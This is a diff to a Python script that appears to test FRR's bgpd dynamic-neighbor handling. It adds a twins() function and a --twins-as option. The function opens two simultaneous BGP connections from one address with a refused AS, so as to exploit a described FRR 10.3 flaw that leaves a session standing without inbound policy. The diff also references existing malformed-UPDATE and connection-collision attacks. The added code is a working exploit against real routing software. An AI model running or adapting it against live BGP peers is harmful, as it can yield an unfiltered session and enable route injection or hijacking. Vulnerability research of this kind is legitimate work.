@@ -12,7 +12,8 @@ The module reads every UPDATE before bgpd does (bgp_packet_dump hook, to
 follow withdrawals), so these reach its parser first.
 
 With --collide-as, then a connection collision whose winning OPEN carries
-an AS the pool does not allow (see collide()).
+an AS the pool does not allow (see collide()); with --twins-as, then two
+connections at once from one address with a refused AS (see twins()).
 
 usage: malformed.py --peer IP --sources A,B,... --as ASN --password PW [--collide-as ASN]
 """
@@ -181,6 +182,53 @@ def collide(args, src, asn):
         first.close()
 
 
+def twins(args, src, asn, rounds=6):
+    """
+    Two connections from one address at once, both sending OPEN with @asn,
+    which the pool refuses. bgpd gives the second to a doppelganger of the
+    dynamic neighbor; when the neighbor is refused and deleted, FRR 10.3
+    leaves the doppelganger standing alone (no peer-group, so no inbound
+    policy) to finish its session. Returns, per round, what each
+    connection saw: "established" if it reached Established and stayed
+    there for --wait seconds, else the NOTIFICATION or "closed".
+    """
+    out = []
+    for _ in range(rounds):
+        socks = [connect(args, src), connect(args, src)]
+        got = []
+        try:
+            for s in socks:
+                s.sendall(open_msg(asn, src, 90))
+            for s in socks:
+                res, est = "open", False
+                end = time.time() + 3 + args.wait
+                try:
+                    while time.time() < end:
+                        try:
+                            mtype, body = read_msg(s, max(0.1, end - time.time()))
+                        except socket.timeout:
+                            break
+                        if mtype == MSG_NOTIFY:
+                            res = "%d/%d" % (body[0], body[1])
+                            break
+                        if mtype == MSG_OPEN:
+                            s.sendall(msg(MSG_KEEPALIVE))
+                        elif mtype == MSG_KEEPALIVE:
+                            est = True
+                    else:
+                        pass
+                except (EOFError, OSError):
+                    res = "closed"
+                got.append(("established, then " + res) if est and res != "open"
+                           else "established" if est else res)
+        finally:
+            for s in socks:
+                s.close()
+        out.append(got)
+        time.sleep(1.5)
+    return out
+
+
 def main():
     ap = argparse.ArgumentParser()
     ap.add_argument("--peer", required=True)
@@ -190,6 +238,8 @@ def main():
     ap.add_argument("--wait", type=float, default=3.0, help="seconds to wait for an answer")
     ap.add_argument("--collide-as", type=int, default=0,
                     help="then the collision attack (see collide()) with this AS")
+    ap.add_argument("--twins-as", type=int, default=0,
+                    help="then two connections at once with this AS (see twins())")
     args = ap.parse_args()
     sources = args.sources.split(",")
     out = {}
@@ -202,6 +252,8 @@ def main():
         time.sleep(1.5)
     if args.collide_as:
         out["collision"] = collide(args, sources[0], args.collide_as)
+    if args.twins_as:
+        out["twins"] = twins(args, sources[1 % len(sources)], args.twins_as)
     print(json.dumps(out, sort_keys=True))
 
 
